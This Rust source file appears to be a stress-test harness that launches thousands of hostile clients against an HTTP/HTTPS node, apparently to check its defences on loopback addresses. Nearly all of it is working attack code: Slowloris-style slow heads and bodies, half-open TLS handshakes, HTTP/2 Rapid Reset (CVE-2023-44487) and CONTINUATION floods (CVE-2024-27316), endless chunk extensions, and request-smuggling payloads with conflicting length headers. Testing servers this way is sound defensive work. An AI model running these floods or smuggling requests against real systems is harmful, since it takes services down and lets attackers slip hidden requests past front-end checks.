//! Clients that mean harm, thousands at once, from a process of their own: they need as many descriptors as the node that
//! they besiege.
//!
//! Each does what its kind does until the node has enough of it, and begins again. What the node makes of them is seen in
//! its own counters; here nothing is judged.

use std::fmt;
use std::net::{Ipv4Addr, SocketAddr};
use std::str::FromStr;
use std::time::Duration;

use anyhow::{Context, Result, anyhow};
use rand::{Rng, RngExt, SeedableRng};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

/// What a besieger does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Connects and says nothing.
    Silent,
    /// Sends a head, a byte now and then.
    SlowHead,
    /// Sends a body, a byte now and then, once the head is with a backend.
    SlowBody,
    /// Begins a TLS handshake and goes no further.
    HalfTls,
    /// Sends noise.
    Garbage,
    /// Sends HTTP/2 requests and resets each at once (CVE-2023-44487).
    RapidReset,
    /// Sends a head of HTTP/2 without end (CVE-2024-27316).
    Continuation,
    /// Sends a chunk with an extension without end.
    ChunkExtension,
    /// Hides requests behind ambiguous lengths.
    Smuggler,
}

/// How many of each there are in a thousand.
const MIX: [(Kind, usize); 9] = [
    (Kind::Silent, 150),
    (Kind::SlowHead, 400),
    (Kind::SlowBody, 100),
    (Kind::HalfTls, 250),
    (Kind::Garbage, 40),
    (Kind::RapidReset, 15),
    (Kind::Continuation, 15),
    (Kind::ChunkExtension, 10),
    (Kind::Smuggler, 20),
];

/// From one byte of a slow one to the next.
const TRICKLE: Duration = Duration::from_secs(4);
/// From the end of one connection to the next.
const PAUSE: Duration = Duration::from_millis(500);
/// The longest that an end is waited for.
const LONGEST: Duration = Duration::from_secs(60);

/// How an HTTP/2 client begins: the preface, and settings that say nothing.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// GET http /, as HPACK's static table has them.
const FIELDS: [u8; 3] = [0x82, 0x86, 0x84];

const AMBIGUOUS: [&str; 4] = [
    "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: x\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 33\r\n\r\nGET /hidden HTTP/1.1\r\nHost: x\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\nX: a\0b\r\n\r\nGET /hidden HTTP/1.1\r\nHost: x\r\n\r\n",
];

/// Who is besieged, by how many, from where. As text it fits into a variable of the environment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Siege {
    /// An http listener.
    pub http: SocketAddr,
    /// An https listener.
    pub https: SocketAddr,
    /// How many besiegers.
    pub count: usize,
    /// Their first address; they take the 40 after it in turn.
    pub from: Ipv4Addr,
}

impl fmt::Display for Siege {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {} {} {}", self.http, self.https, self.count, self.from)
    }
}

impl FromStr for Siege {
    type Err = anyhow::Error;

    fn from_str(text: &str) -> Result<Self> {
        let words: Vec<&str> = text.split(' ').collect();
        let [http, https, count, from] = words[..] else { return Err(anyhow!("{text:?} is no siege")) };
        Ok(Self { http: http.parse()?, https: https.parse()?, count: count.parse()?, from: from.parse()? })
    }
}

impl Siege {
    /// Besieges until the process ends.
    pub async fn lay(self) {
        let mut besiegers = tokio::task::JoinSet::new();
        for at in 0..self.count {
            let (kind, siege) = (kind(at), self.clone());
            besiegers.spawn(async move {
                // One after the other, as fast as the node can accept them.
                sleep(Duration::from_micros(400) * at as u32).await;
                loop {
                    let _ = siege.attack(at, kind).await;
                    sleep(PAUSE).await;
                }
            });
        }
        while besiegers.join_next().await.is_some() {}
    }

    async fn attack(&self, at: usize, kind: Kind) -> Result<()> {
        let socket = TcpSocket::new_v4()?;
        let [a, b, c, d] = self.from.octets();
        socket.bind((Ipv4Addr::new(a, b, c, d + (at % 40) as u8), 0).into())?;
        let target = if kind == Kind::HalfTls { self.https } else { self.http };
        let mut stream = timeout(LONGEST, socket.connect(target)).await.context("no connection")??;
        let bytes = opening(kind, &mut rand::rngs::StdRng::from_rng(&mut rand::rng()));
        let _ = timeout(LONGEST, stream.write_all(&bytes)).await;
        match kind {
            Kind::SlowHead | Kind::SlowBody => trickle(&mut stream).await,
            _ => outlast(&mut stream, LONGEST).await.map(drop),
        }
    }
}

fn kind(at: usize) -> Kind {
    // A number without a factor in common mixes the kinds.
    let mut place = at * 387 % 1000;
    for (kind, share) in MIX {
        if place < share {
            return kind;
        }
        place -= share;
    }
    Kind::Silent
}

/// What a besieger of this kind says at once.
fn opening(kind: Kind, rng: &mut impl Rng) -> Vec<u8> {
    match kind {
        Kind::Silent => Vec::new(),
        Kind::SlowHead => b"GET / HTTP/1.1\r\nHost: www.example.com\r\nX-Slow: ".to_vec(),
        Kind::SlowBody => {
            b"POST / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 100000\r\n\r\n".to_vec()
        }
        // A record that promises 512 bytes of a handshake.
        Kind::HalfTls => vec![22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3],
        Kind::Garbage => {
            let mut noise = vec![0; rng.random_range(8..4000)];
            rng.fill_bytes(&mut noise);
            noise.extend(b"\r\n\r\n");
            noise
        }
        Kind::RapidReset => {
            let mut bytes = PREFACE.to_vec();
            for stream in (1..2000u32).step_by(2) {
                bytes.extend(frame(1, 5, stream, &FIELDS));
                bytes.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
            }
            bytes
        }
        Kind::Continuation => {
            let mut bytes = PREFACE.to_vec();
            bytes.extend(frame(1, 1, 1, &FIELDS));
            for _ in 0..4000 {
                bytes.extend(frame(9, 0, 1, &[0x40, 2, b'x', b'y', 3, b'a', b'b', b'c']));
            }
            bytes
        }
        Kind::ChunkExtension => {
            let head = b"POST / HTTP/1.1\r\nHost: www.example.com\r\nTransfer-Encoding: chunked\r\n\r\n3;";
            [head.as_slice(), &[b'x'; 200_000]].concat()
        }
        Kind::Smuggler => AMBIGUOUS[rng.random_range(0..AMBIGUOUS.len())].into(),
    }
}

/// A frame of HTTP/2 (RFC 9113 §4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A byte now and then until the node has enough.
async fn trickle(stream: &mut TcpStream) -> Result<()> {
    while !outlast(stream, TRICKLE).await? {
        stream.write_all(b"a").await?;
    }
    Ok(())
}

/// Waits until the node ends the connection; false when it has not by then.
async fn outlast(stream: &mut TcpStream, patience: Duration) -> Result<bool> {
    let mut answer = [0; 1024];
    let ended = timeout(patience, async {
        while stream.read(&mut answer).await? > 0 {}
        anyhow::Ok(())
    });
    Ok(ended.await.is_ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_siege_fits_into_a_variable() {
        let siege = Siege {
            http: "127.9.0.1:80".parse().unwrap(),
            https: "127.9.0.1:443".parse().unwrap(),
            count: 7,
            from: Ipv4Addr::new(127, 9, 2, 1),
        };
        assert_eq!(siege.to_string().parse::<Siege>().unwrap(), siege);
        assert!("127.9.0.1:80".parse::<Siege>().is_err());
    }

    #[test]
    fn the_mix_is_kept() {
        for (wanted, share) in MIX {
            assert_eq!((0..1000).filter(|at| kind(*at) == wanted).count(), share, "{wanted:?}");
        }
    }
}
